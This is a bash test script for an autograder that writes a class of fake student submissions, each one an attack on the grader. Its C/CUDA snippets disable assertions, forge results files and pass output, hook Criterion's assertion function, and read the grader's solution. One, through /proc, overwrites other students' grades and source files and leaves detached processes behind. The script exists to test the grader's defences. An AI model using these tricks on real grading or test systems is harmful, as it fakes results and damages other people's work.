#!/usr/bin/env bash
# tests/grading/redteam.sh CLASS REPO - the red-team class: one student per attack on the grader
# (docs/grading.md, "Threat model"), written into CLASS (chapter 01's files).  The expected
# score of each is what its honest part earns; tests/grading/run.sh grades the class and checks.
# Every attack marks what it starts with the word rt-attack, so a leftover process can be found.
set -euo pipefail
class=${1:?usage: redteam.sh CLASS REPO}
repo=${2:?usage: redteam.sh CLASS REPO}
S=$repo/solutions/01-copy
X=$repo/exercises/01-copy
# a skeleton that really is the skeleton (exercises/ of a clone may hold someone's work)
skel=$(mktemp -d)
"$repo/tools/mkexercises.sh" "$repo/solutions" "$skel" >/dev/null
X=$skel/01-copy
mk() { rm -rf "${class:?}/$1"; mkdir -p "$class/$1/01-copy"; }

# honest: the solution (8 CPU points)
mk honest; cp "$S"/* "$class/honest/01-copy/"

# 1. the skeleton's header redefines Criterion's asserts and the GPU guard as no-ops
mk asserts; cp "$X"/* "$class/asserts/01-copy/"
cat >>"$class/asserts/01-copy/loadbalance.h" <<'EOF'
#ifdef cr_assert
#undef cr_assert
#undef cr_assert_eq
#undef cr_assert_leq
#define cr_assert(...) ((void)0)
#define cr_assert_eq(...) ((void)0)
#define cr_assert_leq(...) ((void)0)
#endif
#undef KIT_REQUIRE_GPU
#define KIT_REQUIRE_GPU() ((void)0)
EOF

# 2. a constructor registers an atexit handler that writes every test as passed into
# $KIT_RESULTS (and into every results file it can guess)
mk atexit; cp "$X"/* "$class/atexit/01-copy/"
cat >>"$class/atexit/01-copy/s1_block_dask.cu" <<'EOF'
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
static void rt_fake_results(void)
{
    const char *paths[] = {getenv("KIT_RESULTS"), getenv("KIT_PROGRESS"), "results.tsv", "/tmp/results.tsv"};
    for (int p = 0; p < 4; p++) {
        if (!paths[p]) continue;
        FILE *pts = fopen("tests/points.tsv", "r"), *out = fopen(paths[p], "w");
        char line[512];
        if (!out) { if (pts) fclose(pts); continue; }
        while (pts && fgets(line, sizeof line, pts)) {
            char *sep = strstr(line, "::"), *tab = strchr(line, '\t');
            if (!sep || !tab) continue;
            *sep = 0; *tab = 0;
            fprintf(out, "%s\t%s\tpass\t\n", line, sep + 2);
        }
        fclose(out);
        if (pts) fclose(pts);
    }
}
__attribute__((constructor)) static void rt_register(void) { atexit(rt_fake_results); }
EOF

# 3. defines Criterion's assertion sink and forces every assertion to pass
mk dlsym; cp "$X"/* "$class/dlsym/01-copy/"
cat >>"$class/dlsym/01-copy/s1_block_dask.cu" <<'EOF'
#include <dlfcn.h>
struct criterion_assert_stats { const char *message; int passed; };
extern "C" void criterion_send_assert(struct criterion_assert_stats *s)
{
    void (*real)(struct criterion_assert_stats *) =
        (void (*)(struct criterion_assert_stats *))dlsym(RTLD_NEXT, "criterion_send_assert");
    s->passed = 1;
    if (real) real(s);
}
EOF

# 4. includes the grader's copy of the solution, relatively and absolutely
mk incsol; printf '#include "../../solutions/01-copy/loadbalance.h"\n' >"$class/incsol/01-copy/loadbalance.h"
mk incabs; printf '#include "%s/solutions/01-copy/loadbalance.h"\n' "$repo" >"$class/incabs/01-copy/loadbalance.h"
# ... or a kit file its skeleton does not include, through a macro
mk incmacro; cp "$X"/loadbalance.h "$class/incmacro/01-copy/"
sed -i 's|#include "kit.h"|#include "kit.h"\n#define RT_H "copy.h"\n#include RT_H|' "$class/incmacro/01-copy/loadbalance.h"

# 5. borrows a function of the kit's libraries that the skeleton never calls
mk borrow; cp "$S"/loadbalance.h "$class/borrow/01-copy/"; cp "$X"/s1_block_dask.cu "$class/borrow/01-copy/"
cat >>"$class/borrow/01-copy/s1_block_dask.cu" <<'EOF'
extern "C" unsigned long long rt_borrowed(unsigned long long *s) { return kit_rand64((uint64_t *)s); }
EOF

# 6. harms the others: looks for the grader's repository, the class and the grades through
# /proc and the environment, writes into all of them, and leaves a detached process that keeps
# rewriting every status.tsv it finds (the honest part: the solution's loadbalance.h)
mk harm; cp "$S"/* "$class/harm/01-copy/"
cat >>"$class/harm/01-copy/s1_block_dask.cu" <<EOF
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/prctl.h>
static void rt_scribble(const char *dir)
{
    char p[4096];
    snprintf(p, sizeof p, "%s/RT_WAS_HERE", dir);
    FILE *f = fopen(p, "w");
    if (f) { fputs("rt-attack\n", f); fclose(f); }
}
static void rt_zero_status(const char *root, int depth)
{
    DIR *d = opendir(root);
    struct dirent *e;
    if (!d || depth > 4) { if (d) closedir(d); return; }
    while ((e = readdir(d))) {
        char p[4096];
        if (e->d_name[0] == '.') continue;
        snprintf(p, sizeof p, "%s/%s", root, e->d_name);
        if (strcmp(e->d_name, "status.tsv") == 0) {
            FILE *f = fopen(p, "w");
            if (f) { fputs("victim\t0\t8\t0\tgraded\t\n", f); fclose(f); }
        } else if (e->d_type == DT_DIR) {
            rt_zero_status(p, depth + 1);
        } else if (strstr(e->d_name, ".h") || strstr(e->d_name, ".cu")) {
            FILE *f = fopen(p, "a");
            if (f) { fputs("\n#error rt-attack\n", f); fclose(f); }
        }
    }
    closedir(d);
}
__attribute__((constructor)) static void rt_harm(void)
{
    const char *targets[] = {"$repo", "$class", "$repo/build", "/tmp", getenv("HOME"), getenv("PWD")};
    for (int k = 0; k < 6; k++) if (targets[k]) { rt_scribble(targets[k]); rt_zero_status(targets[k], 0); }
    for (int pid = 1; pid < 65536; pid++) { /* the parents' folders, found through /proc */
        char p[64], cwd[4096];
        snprintf(p, sizeof p, "/proc/%d/cwd", pid);
        ssize_t n = readlink(p, cwd, sizeof cwd - 1);
        if (n > 0) { cwd[n] = 0; rt_scribble(cwd); }
    }
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            prctl(PR_SET_NAME, "rt-attack");
            for (int i = 0; i < 600; i++) { rt_zero_status("$repo/build", 0); sleep(1); }
            _exit(0);
        }
        _exit(0);
    }
}
EOF

# 7. a correct solution that leaves 20 detached sleepers behind
mk sleepers; cp "$S"/* "$class/sleepers/01-copy/"
cat >>"$class/sleepers/01-copy/loadbalance.h" <<'EOF'
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void rt_sleepers(void)
{
    for (int i = 0; i < 20; i++)
        if (fork() == 0) {
            setsid();
            if (fork() == 0) execl("/bin/sleep", "rt-attack", "1800", (char *)0);
            _exit(0);
        }
}
EOF

# 8. the GPU file hangs at load (pause() forever in a constructor); the CPU exercise is right
mk pausector; cp "$S"/* "$class/pausector/01-copy/"
cat >>"$class/pausector/01-copy/s1_block_dask.cu" <<'EOF'
#include <unistd.h>
__attribute__((constructor)) static void rt_pause(void) { for (;;) pause(); }
EOF

# 9. the GPU file exits at load (and so does an abort, in the other file's place)
mk exitload; cp "$S"/* "$class/exitload/01-copy/"
cat >>"$class/exitload/01-copy/s1_block_dask.cu" <<'EOF'
#include <stdlib.h>
__attribute__((constructor)) static void rt_exit(void) { exit(0); }
EOF
mk abortload; cp "$S"/* "$class/abortload/01-copy/"
cat >>"$class/abortload/01-copy/s1_block_dask.cu" <<'EOF'
#include <stdlib.h>
__attribute__((constructor)) static void rt_abort(void) { abort(); }
EOF

# 10. fake output: Criterion's and TAP's words, a results.json, on every stream
mk fakeout; cp "$X"/* "$class/fakeout/01-copy/"
cat >>"$class/fakeout/01-copy/s1_block_dask.cu" <<'EOF'
#include <stdio.h>
__attribute__((constructor)) static void rt_fake(void)
{
    const char *s = "[PASS] ex01_loadbalance::example_23_over_5: (0.00s)\nok 1 - ex01_loadbalance::covers_in_order\n"
                    "[====] Synthesis: Tested: 8 | Passing: 8 | Failing: 0 | Crashing: 0\n";
    fputs(s, stdout); fputs(s, stderr);
    FILE *f = fopen("results.json", "w");
    if (f) { fputs("{\"score\": 8, \"max_score\": 8, \"tests\": []}\n", f); fclose(f); }
}
EOF

# 11. a right answer that forks a child it never waits for, holding the channel open
mk forkwait; cp "$S"/* "$class/forkwait/01-copy/"
sed -i 's|    const uint64_t base = nblocks / nrows;|    { static int rt_forked; if (!rt_forked \&\& (rt_forked = 1) \&\& fork() == 0) { for (;;) sleep(1); } }\n&|' \
  "$class/forkwait/01-copy/loadbalance.h"
sed -i 's|#include <stdint.h>|#include <stdint.h>\n#include <unistd.h>|' "$class/forkwait/01-copy/loadbalance.h"

# 12. names: the grader's own words, quotes, a backslash, a tab, a newline, a dot, natural order
for n in kit students cluster 'a"b\c' $'tab\tname' bob9 bob10; do mk "$n"; done
cp "$S"/loadbalance.h "$class/kit/01-copy/"
mkdir -p "$class/"$'new\nline' "$class/.hidden"
rm -rf "$skel"
